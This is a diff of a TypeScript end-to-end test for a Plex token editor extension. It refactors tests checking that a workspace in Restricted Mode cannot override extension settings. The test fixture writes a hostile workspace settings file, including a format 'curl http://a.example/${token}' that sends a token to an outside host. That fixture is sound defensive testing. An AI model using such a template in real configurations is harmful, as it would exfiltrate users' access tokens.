@@ -1,57 +1,58 @@
 import assert from 'node:assert/strict';
 import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
-import { type RunningSimulator, spawnSimulator } from '../simulator/spawn.ts';
-import { addServer, prepareFolder } from './newUser.ts';
-import { openWorkbench, type Workbench } from './workbench.ts';
+import { addServer, type FolderOptions, prepareFolder, showsSource } from './newUser.ts';
+import { type Step, walk } from './walk.ts';
 
-describe('A workspace', () => {
-  const stack = new AsyncDisposableStack();
-  let simulator: RunningSimulator;
-  let workbench: Workbench;
+/** Of a repository that wants to change what the extension does. */
+const SETTINGS = {
+  'plexTokens.insecureConnections': 'always',
+  plexTokens: { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 } },
+  'plexTokens.clipboard.clearAfterSeconds': 0,
+  'plexTokens.formats': { Repository: 'curl http://a.example/${token}' },
+  // Shows that the file was read.
+  'editor.lineNumbers': 'off',
+};
 
-  before(async () => {
-    simulator = await spawnSimulator();
-    stack.defer(() => simulator.stop());
-    const folder = prepareFolder(stack);
-    mkdirSync(path.join(folder, '.vscode'), { recursive: true });
-    const settings = {
-      'plexTokens.insecureConnections': 'always',
-      plexTokens: { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 } },
-      'plexTokens.clipboard.clearAfterSeconds': 0,
-      'plexTokens.formats': { Repository: 'curl http://a.example/${token}' },
-      // To be seen that the file was read.
-      'editor.lineNumbers': 'off',
-    };
-    writeFileSync(path.join(folder, '.vscode/settings.json'), JSON.stringify(settings));
-    workbench = stack.use(await openWorkbench({ folder, workspaceTrust: true }));
-  });
-  after(() => stack.disposeAsync());
+function withSettings(stack: AsyncDisposableStack): FolderOptions {
+  const folder = prepareFolder(stack);
+  mkdirSync(path.join(folder, '.vscode'), { recursive: true });
+  writeFileSync(path.join(folder, '.vscode/settings.json'), JSON.stringify(SETTINGS));
+  return { folder, workspaceTrust: true };
+}
 
-  it('that is not trusted takes nothing from the extension, and changes nothing of it', async () => {
-    await workbench.page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
-    await workbench.activityBar('Plex');
-    await addServer(workbench, simulator.servers.livingRoom.url, simulator.tokens.owner, 'me');
-    await workbench.openFile('cursors.txt');
-    await workbench.quickInput.goTo(1, 1);
-    await workbench.command('Plex: Insert Transient Token');
-    await workbench.editor.has('a transient token', text => text.includes('transient-'));
-    assert.equal(await workbench.page.locator('.editor-instance .line-numbers').count(), 0, 'its settings are read');
-    await workbench.command('Plex: Insert Transient Token As…');
-    await workbench.quickInput.asks('Insert Transient Token of Living Room As');
-    const formats = (await workbench.quickInput.rows()).map(({ label }) => label);
-    assert.ok(formats.includes('Header') && !formats.includes('Repository'), formats.join());
-    await workbench.quickInput.escape();
-    await workbench.notifications.clear();
-    await workbench.command('Plex: Copy Transient Token');
-    await workbench.notifications.shows('Copied, for 60 s');
-  });
+const steps: readonly Step[] = [
+  {
+    title: 'takes nothing from the extension, and changes nothing of it',
+    act: async ({ workbench, simulator }) => {
+      await workbench.page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
+      await workbench.activityBar('Plex');
+      await addServer(workbench, simulator.servers.livingRoom.url, simulator.tokens.owner, 'me');
+      await workbench.openFile('cursors.txt');
+      await workbench.quickInput.goTo(1, 1);
+      await workbench.command('Plex: Insert Transient Token');
+      await workbench.editor.has('a transient token', text => text.includes('transient-'));
+      assert.equal(await workbench.page.locator('.editor-instance .line-numbers').count(), 0, 'its settings are read');
+      await workbench.command('Plex: Insert Transient Token As…');
+      await workbench.quickInput.asks('Insert Transient Token of Living Room As');
+      const formats = (await workbench.quickInput.rows()).map(({ label }) => label);
+      assert.ok(formats.includes('Header') && !formats.includes('Repository'), formats.join());
+      await workbench.quickInput.escape();
+      await workbench.notifications.clear();
+      await workbench.command('Plex: Copy Transient Token');
+      await workbench.notifications.shows('Copied, for 60 s');
+    },
+  },
+  {
+    title: 'cannot allow plain http outside of the local network',
+    act: async ({ workbench }) => {
+      await workbench.command('Plex: Add Server…');
+      await workbench.quickInput.asks('Address of the server');
+      await workbench.quickInput.answer('http://198.51.100.24:32400');
+      await workbench.quickInput.complains('outside of the local network');
+      await workbench.quickInput.escape();
+    },
+  },
+];
 
-  it('cannot allow plain http outside of the local network', async () => {
-    await workbench.command('Plex: Add Server…');
-    await workbench.quickInput.asks('Address of the server');
-    await workbench.quickInput.answer('http://198.51.100.24:32400');
-    await workbench.quickInput.complains('outside of the local network');
-    await workbench.quickInput.escape();
-  });
-});
+describe('A workspace in Restricted Mode', () => walk([...steps, ...showsSource], withSettings));
